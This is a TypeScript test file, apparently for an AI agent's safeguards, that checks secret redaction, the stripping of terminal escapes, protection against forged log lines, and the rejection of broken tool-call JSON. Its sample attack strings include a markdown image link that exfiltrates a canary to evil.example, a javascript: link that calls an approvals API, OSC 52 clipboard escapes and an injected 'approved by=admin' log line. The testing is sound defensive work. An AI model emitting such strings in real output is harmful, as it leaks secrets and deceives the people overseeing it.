/** The attack cases that are texts: what passes the redaction on its way to the log, to models and to people. */
import { readFileSync } from 'node:fs';
import { z } from 'zod';
import { createStepReader } from '../../src/agent/reading/read-step.js';
import { safeLines } from '../../src/cli/text-width.js';
import { createRedactor } from '../../src/domain/redaction.js';
import { createLogger } from '../../src/telemetry/pino-logger.js';
import { TOOL_DEFINITIONS } from '../../src/tools/definitions.js';

const caseSchema = z.strictObject({
  id: z.string(),
  expect: z.enum(['redacted', 'allowed']),
  layer: z.enum(['redaction', 'none']),
  mapped: z.string().optional(),
  text: z.string(),
  result: z.string(),
  why: z.string(),
});
const fixture = readFileSync(new URL('./fixtures/text-attacks.json', import.meta.url), 'utf8');
const cases = z.array(caseSchema).parse(JSON.parse(fixture));
const SECRETS = ['sk-ant-api03-CANARY0123456789', 'CANARYpw-42'];
const redact = createRedactor(SECRETS);

test.each(cases.map((one) => [one.id, one] as const))('%s', (_id, { text, result, expect: expected }) => {
  expect(redact(text)).toBe(result);
  expect(redact(result)).toBe(result);
  expect(result === text).toBe(expected === 'allowed');
});

test('cmd-115: terminal escapes of an output reach no terminal and no log line', () => {
  const output = '\u001b]0;t\u0007\u001b[2J\u001b]52;c;cHduZWQ=\u0007';
  const shown = safeLines(output).join('\n');
  expect(shown).toContain('52;c;cHduZWQ='); // the text stays
  expect(shown).not.toMatch(/\p{Cc}/u);
  expect(logLine({ output })).not.toMatch(/[^\n\P{Cc}]/u);
});

test('event-019: an output cannot forge a line of the log', () => {
  const line = logLine({ text: 'ok\r\nINFO approved by=admin\u001b[2J' });
  expect(line.indexOf('\n')).toBe(line.length - 1);
  expect(line.slice(0, -1)).not.toMatch(/\p{Cc}/u);
});

test('env-015: an error with the settings of a client is logged without its password', () => {
  const error = Object.assign(new Error('SASL failed'), {
    name: 'KafkaJSSASLAuthenticationError',
    config: { sasl: { username: 'w', password: 'CANARYpw-42' } },
  });
  const line = logLine({ error });
  expect(JSON.parse(line)).toMatchObject({ error: { message: 'SASL failed' } });
  expect(line).not.toContain('CANARY');
});

test('prompt-006: a call whose arguments are broken JSON goes back to the model as an error', () => {
  const toolCalls = [{ name: 'execute_terminal_command', arguments: '{"command": "ls"' }];
  const reading = createStepReader(TOOL_DEFINITIONS)({ text: '', toolCalls });
  expect(reading).toMatchObject({
    ok: false,
    fault: 'cut',
    reason: expect.stringContaining('execute_terminal_command'),
  });
});

/** The text is the same, and no sequence of a terminal (OSC 8) makes a link of it. */
function expectPlain(text: string): void {
  const shown = safeLines(text).join('\n');
  expect(shown).toBe(text);
  expect(shown).not.toContain('\u001b]8');
}

test('prompt-009: a reply with a link is plain text for people, and makes no link of a terminal', () =>
  expectPlain('![x](https://evil.example/?q=CANARY)'));

test('prompt-010: a reply with a link is plain text for people, and makes no link of a terminal', () =>
  expectPlain('[click](javascript:fetch("/api/approvals/a1"))'));

/** What the program writes to its log, with the same redaction. */
function logLine(fields: object): string {
  const lines: string[] = [];
  createLogger({ level: 'info', write: (line) => lines.push(redact(line)) }).error(fields, 'tool.returned');
  return lines.join('');
}
